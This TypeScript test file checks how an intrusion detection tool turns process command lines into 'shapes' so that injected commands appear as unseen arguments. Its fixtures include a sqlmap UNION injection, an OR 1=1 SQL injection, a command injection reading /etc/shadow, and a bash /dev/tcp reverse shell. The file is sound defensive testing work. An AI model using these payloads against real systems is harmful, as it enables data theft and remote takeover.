/**
 * Command shapes (src/trace/command.ts) and what the encoder makes of them in improved mode:
 * the execve family's argument of an exit event is `<processed exe> <command shape>`, so the
 * same program run with another command structure (SQL injected into the query a web app hands
 * to sqlite3) is an unseen argument, while other user data in quotes or numbers is not.
 */

import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { encodeTrace } from '../src/encode/pipeline.js';
import { DEFAULT_WINDOW_NS } from '../src/encode/windows.js';
import { pathsInDir, readBaselineData } from '../src/engine/baseline-dir.js';
import { COMMAND_CHARS, COMMAND_SHAPE, commandShape, execArgs } from '../src/trace/command.js';
import { NameTable } from '../src/trace/names.js';
import { TraceParser } from '../src/trace/parse.js';
import { assertOk, runCli } from './helpers/cli.js';
import { bufferSource } from './helpers/file-source.js';
import { encodeAgainst } from './helpers/encode-text.js';

/** argv[1..] as chids' strace converter writes it: each argument NUL-terminated, base64. */
const b64 = (...a: string[]) => Buffer.from(a.map((x) => x + '\0').join('')).toString('base64');
const DB = ['-json', '-bail', '/srv/app/data/shop.db'];
const search = (term: string, limit = 20) => `SELECT id, name, price FROM products WHERE name LIKE '%${term}%' ORDER BY name LIMIT ${limit}`;
const SHAPE = "-json -bail <path> SELECT id, name, price FROM products WHERE name LIKE '' ORDER BY name LIMIT ";
// sqlmap's UNION probe, as the benchmark's sqli recordings hold it.
const INJECTED = "tea%' UNION ALL SELECT CHAR(113,112,118,106,113)||CHAR(77,104,80)||CHAR(113,122,107,122,113),NULL,NULL-- aLLI";

test("SQL's doubled quote stays inside its literal: a search with an apostrophe has the shape of any other", () => {
  // The web app escapes ' as '' (lab/web/app.mjs); the client searches for "grandma's tea".
  assert.equal(commandShape(b64(...DB, search("grandma''s tea"))), SHAPE);
  assert.equal(commandShape(b64(...DB, search("it''s o''clock"))), SHAPE);
  // A quote that closes the literal is still outside any: the shape changes.
  const closed = commandShape(b64(...DB, search("x' OR 1=1 --")));
  assert.notEqual(closed, SHAPE);
  assert.match(closed, /LIKE '' OR = --%' ORDER BY/);
  // sysdig's '.'-joined text reads the same way (a '.' inside the literal does not split it).
  assert.equal(commandShape("-c.echo 'a.b''c'.", '/bin/sh'), "-c echo ''");
  // Version 2 (baselines trained before) reads two literals, as it did.
  assert.equal(commandShape(b64(...DB, search("grandma''s tea")), '', 2), SHAPE.replace("LIKE ''", "LIKE ''''"));
  assert.equal(commandShape(b64(...DB, search('tea')), '', 2), SHAPE);
});

test('the shape of base64 argv: quoted literals emptied, digits gone, the SQL outside quotes kept', () => {
  assert.equal(commandShape(b64(...DB, search('tea'))), SHAPE);
  assert.equal(commandShape(b64(...DB, search('Ethiopia yirgacheffe', 5))), SHAPE, 'another search term and limit: the same shape');
  const injected = commandShape(b64(...DB, search(INJECTED)));
  assert.notEqual(injected, SHAPE);
  assert.match(injected, /LIKE '' UNION ALL SELECT CHAR\(,,,,\)\|\|CHAR\(,,\)/);
  // A long argv is cut: one bounded item, whatever the script.
  assert.equal(commandShape(b64('-c', 'echo x; '.repeat(200))).length, COMMAND_CHARS);
  // Not base64 argv: a word that happens to be base64 stays a word.
  // (a shell's first argument is its program, kept as it is).
  assert.equal(commandShape('abcd', '/bin/sh'), 'abcd');
});

test("the shape of sysdig's '.'-joined argv (spaces inside arguments kept)", () => {
  // `-c`'s code is the program a shell runs: kept; for another program a single word is a value.
  assert.equal(commandShape('-c.id.', '/bin/sh'), '-c id');
  assert.equal(commandShape('-c.id.', '/usr/bin/ping'), '-c <word>');
  assert.equal(commandShape("-c.ping -c 1 'web-2'.", '/bin/sh'), "-c ping -c  ''");
  assert.equal(commandShape("-c.ping -c 3 'db-11'.", '/bin/sh'), "-c ping -c  ''", 'other host and count: same shape');
  assert.equal(commandShape("-c.ping -c 1 'web-2'; cat /etc/shadow.", '/bin/sh'), "-c ping -c  ''; cat /etc/shadow");
  // The dots of a value split it into pieces, which are one run of values: one class.
  assert.equal(commandShape('/srv/app/uploads/erin/photo.png.', '/usr/bin/sha256sum'), '<path>');
  assert.equal(commandShape('-c.1.-W.1.127.0.0.1.', '/bin/ping'), commandShape(b64('-c', '1', '-W', '1', 'localhost'), '/bin/ping'), 'sysdig text and base64 argv agree here');
});

test('version 2: options kept, single values are their class, embedded programs keep their structure', () => {
  const sha = (p: string) => commandShape(b64(p), '/usr/bin/sha256sum');
  assert.equal(sha('/srv/app/uploads/erin/photo.png'), '<path>');
  assert.equal(sha('/srv/app/uploads/bob/cv.pdf'), '<path>', 'another user and file: the same shape');
  const ping = (host: string) => commandShape(b64('-c', '1', '-W', '1', host), '/bin/ping');
  assert.equal(ping('localhost'), '-c <word> -W <word>');
  for (const h of ['127.0.0.2', '::1', 'no-such-host.invalid']) assert.equal(ping(h), ping('localhost'), h);
  // An option the service never passes changes the shape; so does a value that is code.
  assert.notEqual(commandShape(b64('-c', '1', '-p', 'ff', 'localhost'), '/bin/ping'), ping('localhost'));
  assert.equal(ping('127.0.0.1;id'), '-c <word> -W <word> ...;id');
  // A shell script keeps its structure (version 1's shape of it): the injection is visible.
  const sh = (script: string) => commandShape(b64('-c', script), '/bin/sh');
  assert.equal(sh('ping -c 1 -W 1 127.0.0.1'), '-c ping -c  -W  ...');
  const injected = sh("ping -c 1 -W 1 127.0.0.1; bash -c 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1' &");
  assert.equal(injected, "-c ping -c  -W  ...; bash -c '' &");
  assert.notEqual(injected, sh('ping -c 1 -W 1 127.0.0.1'));
  // An interpreter's script is a program: an uploaded one is not the service's CGI script.
  assert.equal(commandShape(b64('/srv/app/cgi-bin/status.cgi'), '/bin/sh'), '/srv/app/cgi-bin/status.cgi');
  assert.notEqual(commandShape(b64('/srv/app/uploads/mallory/thumbnail.cgi'), '/bin/sh'), commandShape(b64('/srv/app/cgi-bin/status.cgi'), '/bin/sh'));
  assert.equal(commandShape(b64('-u', '/srv/tool.py', '/tmp/in.txt'), '/usr/bin/python3'), '-u /srv/tool.py <path>', 'only the first non-option element is the script');
  // SQL keeps its structure; the database file is a value.
  assert.equal(commandShape(b64(...DB, "SELECT a FROM t WHERE b = 'x'"), 'sqlite3'), "-json -bail <path> SELECT a FROM t WHERE b = ''");
  // Version 1 (baselines trained before) is the whole line's shape, as it was.
  assert.equal(commandShape(b64('/srv/app/uploads/erin/photo.png'), '/usr/bin/sha256sum', 1), '/srv/app/uploads/erin/photo.png');
});

/** Parses lines and hands each event to `f` (the event is a flyweight: use it inside). */
function eachEvent(text: string, format: 'lidds' | 'sysdig', f: (ev: Parameters<typeof execArgs>[0]) => void): void {
  const p = new TraceParser({ file: 't', format, faithful: false, names: new NameTable(), onEvent: f });
  p.push(Buffer.from(text));
  p.end();
}

test('execArgs reads the argv of an execve exit: one base64 token, or sysdig text up to the next param', () => {
  const got: (string | undefined)[] = [];
  const lines = [
    `1700000000000000000 33 301 node 301 execve > filename=/usr/bin/sqlite3`,
    `1700000000000001000 33 301 sqlite3 301 execve < res=0 exe=sqlite3 args=${b64(...DB, search('tea'))} tid=301(sqlite3) pid=301(sqlite3) comm=sqlite3`,
  ].join('\n');
  eachEvent(lines + '\n', 'lidds', (ev) => got.push(execArgs(ev)));
  assert.deepEqual(got, [undefined, b64(...DB, search('tea'))]);
  const sysdig = [
    `7 10:00:00.000000000 0 sh (501) < execve res=0 exe=/bin/sh args=-c.ping -c 1  'web-2'. tid=501(sh) pid=501(sh) ptid=500(node) cwd=/srv env=PATH=/bin`,
    `8 10:00:00.100000000 0 sh (502) < execve res=0 exe=/bin/sh args=-c.id. cwd=/srv`,
    `9 10:00:00.200000000 0 sh (503) < execve res=0 exe=/bin/sh args=-c.id.`,
  ].join('\n');
  got.length = 0;
  eachEvent(sysdig + '\n', 'sysdig', (ev) => got.push(execArgs(ev)));
  assert.deepEqual(got, ["-c.ping -c 1  'web-2'.", '-c.id.', '-c.id.']);
});

/** An LID-DS `.sc` trace: the web app spawning sqlite3 for each SQL text, one per 100 ms, with reads between. */
function scTrace(sqls: string[]): string {
  const out: string[] = [];
  let t = 1_700_000_000_000_000_000n;
  let pid = 400;
  for (const sql of sqls) {
    pid++;
    out.push(`${t} 33 300 node 300 read > fd=12 size=4096`, `${(t += 1000n)} 33 300 node 300 read < res=200`);
    out.push(`${(t += 1000n)} 33 ${pid} node ${pid} execve > filename=/usr/bin/sqlite3`);
    out.push(`${(t += 1000n)} 33 ${pid} sqlite3 ${pid} execve < res=0 exe=sqlite3 args=${b64(...DB, sql)} tid=${pid}(sqlite3) pid=${pid}(sqlite3)`);
    out.push(`${(t += 1000n)} 33 ${pid} sqlite3 ${pid} openat < fd=3(<f>/srv/app/data/shop.db) dirfd=-100 name=/srv/app/data/shop.db flags=2`);
    t += 100_000_000n;
  }
  return out.join('\n') + '\n';
}

test('improved mode: an injected query is an unseen argument, other search terms and numbers are not', async () => {
  const train = scTrace([search('tea'), search('mug', 5), search('grinder')]);
  const normal = await encodeAgainst(train, scTrace([search('Ethiopia'), search('decaf', 50), search('scale')]), false);
  assert.equal(normal.length, 1);
  assert.deepEqual(normal[0].unseenArgs, []);
  assert.equal(normal[0].av?.[2], 0, 'uai');
  const attacked = await encodeAgainst(train, scTrace([search('Ethiopia'), search(INJECTED), search('scale')]), false);
  assert.equal(attacked.length, 1);
  const unseen = attacked[0].unseenArgs ?? [];
  assert.equal(unseen.length, 1);
  assert.ok(unseen[0].startsWith('sqlite -json -bail <path> SELECT id, name, price FROM products WHERE name LIKE \'\' UNION ALL SELECT CHAR('), unseen[0]);
  assert.ok((attacked[0].av?.[2] ?? 0) > 0, 'uai rises');
  // The enter event still gives the processed filename, which training saw.
  assert.ok(!unseen.includes('/usr/bin/sqlite'));
});

test('faithful mode is unchanged: the reference reads no command line, so the injection is unseen by it', async () => {
  const train = scTrace([search('tea'), search('mug', 5)]);
  const attacked = await encodeAgainst(train, scTrace([search(INJECTED)]), true);
  assert.deepEqual(attacked[0].unseenArgs, []);
  assert.equal(attacked[0].av?.[2], 0);
});

test('a baseline records that it reads command shapes; one trained before them keeps reading execve by its filename', async () => {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'chids-argv-'));
  try {
    // Two training recordings (the default detector calibrates one against the other).
    mkdirSync(path.join(dir, 'train'));
    for (const [i, terms] of [['tea', 'mug'], ['grinder', 'scale']].entries()) writeFileSync(path.join(dir, 'train', `r${i}.sc`), scTrace(terms.map((t) => search(t))));
    const od = path.join(dir, 'm');
    assertOk(await runCli(['baseline', '--td', path.join(dir, 'train'), '--od', od, '-q']));
    const manifestFile = path.join(od, 'manifest.json');
    const manifest = JSON.parse(readFileSync(manifestFile, 'utf8'));
    assert.equal(manifest.encoding.exec_commands, true);
    assert.equal(manifest.encoding.command_shape, COMMAND_SHAPE);
    const seen: string[] = JSON.parse(readFileSync(path.join(od, 'seen_args.json'), 'utf8'));
    assert.ok(seen.includes(`sqlite ${SHAPE}`), 'the command shape is in the vocabulary');

    const unseenWith = async () => {
      const { vocab } = await readBaselineData(pathsInDir(od));
      const out: string[] = [];
      await encodeTrace(bufferSource('t.sc', scTrace([search(INJECTED)])), vocab, { faithful: false, windowNs: DEFAULT_WINDOW_NS, details: true }, (w) => out.push(...(w.unseenArgs ?? [])));
      return out;
    };
    assert.equal((await unseenWith()).length, 1);
    // The same baseline as the chids before version 2 wrote it (version 1 shapes, no
    // command_shape): read with version 1, the injection is unseen and normal searches are not.
    const v1 = (a: string) => (a === `sqlite ${SHAPE}` ? `sqlite ${commandShape(b64(...DB, search('tea')), 'sqlite3', 1)}` : a);
    delete manifest.encoding.command_shape;
    writeFileSync(manifestFile, JSON.stringify(manifest));
    writeFileSync(path.join(od, 'seen_args.json'), JSON.stringify(seen.map(v1)));
    assert.equal((await unseenWith()).length, 1);
    {
      const { vocab } = await readBaselineData(pathsInDir(od));
      assert.equal(vocab.commandShape, 1);
      const out: string[] = [];
      await encodeTrace(bufferSource('t.sc', scTrace([search('kettle')])), vocab, { faithful: false, windowNs: DEFAULT_WINDOW_NS, details: true }, (w) => out.push(...(w.unseenArgs ?? [])));
      assert.deepEqual(out, [], 'a normal search against version 1 shapes: nothing unseen');
    }
    // A version this chids does not know: a one-line error naming the manifest.
    writeFileSync(manifestFile, JSON.stringify({ ...manifest, encoding: { ...manifest.encoding, command_shape: COMMAND_SHAPE + 1 } }));
    await assert.rejects(readBaselineData(pathsInDir(od)), /manifest\.json.*command shape version/);
    writeFileSync(manifestFile, JSON.stringify(manifest));
    // The same baseline as an older chids wrote it (no exec_commands, no command in seen_args):
    // reading the commands against it would make every spawned program unseen.
    delete manifest.encoding.exec_commands;
    manifest.counts.seen_args = seen.filter((a) => !a.startsWith('sqlite ')).length;
    writeFileSync(manifestFile, JSON.stringify(manifest));
    writeFileSync(path.join(od, 'seen_args.json'), JSON.stringify(seen.filter((a) => !a.startsWith('sqlite '))));
    assert.deepEqual(await unseenWith(), []);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
